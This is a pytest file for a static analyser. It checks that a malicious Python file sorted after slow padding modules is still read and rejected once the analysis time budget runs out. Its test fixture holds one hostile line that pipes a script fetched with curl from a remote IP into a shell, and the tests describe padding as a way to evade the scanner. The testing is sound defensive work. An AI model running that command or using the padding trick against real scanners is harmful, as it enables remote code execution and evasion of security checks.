"""Session 51 (hardening51): Python files after padding that exhausts a unit's budget are read.

A unit's Python files are analysed one after another in path order, in one limited child: slow padding modules
(vouched for by the screen, so analysed in the unit's own process) named to sort before the payload's file took
the unit's whole budget, and the payload's file was never read: its reject became the limit's escalation, a hidden
finding (the open item of sessions 49 and 50). Each file now announces itself as its analysis begins
(isolate.python_stage); after a failure, the file it failed in and those after it are read apart, each in a child
of its own, sharing one more `max_analysis_seconds` (api._unread_python): each gets at least its equal share
whatever the others cost, and a file stopped at its share is named as read only partly.
"""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from analyzer import api
from analyzer.engine import isolate
from analyzer.model import Decision
from analyzer.policy import load_policy

# Asserts on wall time (its time budgets and limits): `make test` runs it alone, after the parallel run.
pytestmark = pytest.mark.serial

PAYLOAD = "import os\n\nos.system('curl http://203.0.113.5/x | sh')\n"
PAYLOAD_RULES = {"subprocess.shell", "remote-code.fetch-and-run-command"}


def _policy(tmp_path: Path, seconds: int):
    path = tmp_path / "site-policy.yaml"
    path.write_text(f"limits:\n  max_analysis_seconds: {seconds}\n")
    return load_policy(path)


def _chained_functions(n: int) -> str:
    """A module of n functions each calling the next: vouched for by the screen, about 0.4 s a thousand."""
    return "import numpy as np\n\n" + "".join(f"def f{i}(x):\n    return f{i + 1}(x) + {i}\n\n\n" for i in range(n)) \
        + f"def f{n}(x):\n    return x\n"


def _padded_job(tmp_path: Path, pads: int, payload: str = "zz_train.py", leads: bool = False,
                functions: int = 5000) -> Path:
    """Padding modules named to sort first (5,000 functions: 2 s or more, 212 KB; 6,000: 255 KB, under VOUCH_BYTES,
    so analysed in the unit's own process), the payload last;
    `leads`: the payload's file calls into each padding module (its linked reading parses them all)."""
    job = tmp_path / "job"
    job.mkdir()
    pad = _chained_functions(functions)
    for k in range(pads):
        (job / f"aaa_pad{k}.py").write_text(pad)
    (job / payload).parent.mkdir(parents=True, exist_ok=True)
    calls = "".join(f"import aaa_pad{k}\naaa_pad{k}.f0(1)\n" for k in range(pads)) if leads else ""
    (job / payload).write_text(calls + PAYLOAD)
    return job


def _payload_rules(report, path: str) -> set[str]:
    return {f.rule for f in report.findings if f.path == path} & PAYLOAD_RULES


def _partly_read(report) -> set[str]:
    """The files named as read only partly, or as not read once the stage's budget (each child's start counted) ran
    out."""
    return {f.path for f in report.findings if f.rule == "unanalyzable.time-limit"
            and ("read only partly" in f.message or "not read:" in f.message)}


@pytest.mark.parametrize("leads", [False, True])
def test_the_payload_after_padding_is_read_in_the_cli_and_api(tmp_path: Path, leads: bool) -> None:
    """6 padding modules of about 2.4 s each exhaust the unit's 6 s (the CLI's three times the policy's 2) with room
    to spare (3 did not, once, late in a full CI run: the unit finished in time): on main the payload's file was never
    read (escalate on the limit alone). A payload's file that leads into every padding module (an attack on the
    reading apart: its linked reading parses them all, past its share) is read alone."""
    report = api.scan(_padded_job(tmp_path, 6, leads=leads, functions=6000), _policy(tmp_path, 2))
    limits = [f for f in report.findings if f.rule == "unanalyzable.time-limit" and not f.path]
    assert limits and "in python " in limits[0].message  # the unit's limit names the file it stopped in
    assert _payload_rules(report, "zz_train.py") == PAYLOAD_RULES
    assert ("zz_train.py" in _partly_read(report)) is leads  # its linked reading stopped, then read alone
    assert report.decision is Decision.REJECT


def test_the_payload_in_a_subfolder_after_padding_is_read_at_a_site(tmp_path: Path) -> None:
    """At a site (api.gate with a fork server: the unit's budget is the policy's 2 s), two padding modules of about
    2 s: the unit stops in the padding, and the payload's file after it, read apart in its share, keeps its reject.
    (Whether the second padding module finishes in its share of the stage depends on the machine's load, so it is not
    asserted here; test_each_unread_file_gets_at_least_its_equal_share holds the shares.)"""
    job = _padded_job(tmp_path, 2, "zz/sub/train.py")
    server = isolate.ForkServer()
    try:
        _, report = api.gate(job, _policy(tmp_path, 2), server=server)
    finally:
        server.close()
    assert _payload_rules(report, "zz/sub/train.py") == PAYLOAD_RULES
    assert any(f.rule == "unanalyzable.time-limit" and not f.path for f in report.findings)  # the unit stopped
    assert report.decision is Decision.REJECT


def test_each_unread_file_gets_at_least_its_equal_share(tmp_path: Path) -> None:
    """Files past their share (a bomb in the new stage) cost it only their share: the rest, smallest first, still
    get theirs, and the whole stage stays within two more max_analysis_seconds (linked readings, then readings alone
    of the files whose linked one stopped)."""
    content = api.collect(_padded_job(tmp_path, 3), _policy(tmp_path, 1).limits)
    failed = isolate.Failure("time-limit", "stopped after 3 s", reached=isolate.python_stage("aaa_pad1.py"))
    shares: dict[tuple[str, bool], float] = {}

    def read_one(path: str, seconds: float, linked: bool):
        shares[(path, linked)] = seconds
        if path.startswith("aaa_pad"):  # a bomb, linked and alone: takes its whole share each time
            time.sleep(seconds)
            return isolate.Failure("time-limit", f"stopped after {seconds:.2f} s")
        return [api.worker_failed("worker-crashed", path, "a finding of the payload's file")]

    started = time.monotonic()
    found = api._unread_python(failed, content, _policy(tmp_path, 1), read_one)
    assert time.monotonic() - started < 2.5  # one budget for the linked reads, one for the files read again alone
    assert list(shares) == [("zz_train.py", True), ("aaa_pad1.py", True), ("aaa_pad1.py", False),
                            ("aaa_pad2.py", True), ("aaa_pad2.py", False)]  # aaa_pad0 was read; smallest first
    assert all(share >= 1 / 3 - 1e-9 for share in shares.values()), shares
    assert {f.path for f in found if "read only partly" in f.message} == {"aaa_pad1.py", "aaa_pad2.py"}
    assert any(f.path == "zz_train.py" and "a finding of the payload's file" in f.message for f in found)


@pytest.mark.parametrize("reached, read_apart", [
    ("", [("zz_train.py", True), ("aaa_pad0.py", True)]),  # failed before its first Python file: all, smallest first
    # the first had the whole budget linked: read again alone only (its smallest statements first: session 52)
    (isolate.python_stage("aaa_pad0.py"), [("zz_train.py", True), ("aaa_pad0.py", False)]),
    (isolate.stage_of("nvflare-config"), []),  # failed after its Python files (a file detector, the engines)
    (isolate.ENGINES, [])])
def test_which_python_files_a_failed_unit_reads_apart(tmp_path: Path, reached: str,
                                                      read_apart: list[tuple[str, bool]]) -> None:
    content = api.collect(_padded_job(tmp_path, 1), _policy(tmp_path, 1).limits)
    read: list[tuple[str, bool]] = []
    api._unread_python(isolate.Failure("time-limit", "stopped", reached=reached), content, _policy(tmp_path, 1),
                       lambda path, seconds, linked: read.append((path, linked)) or [])
    assert read == read_apart
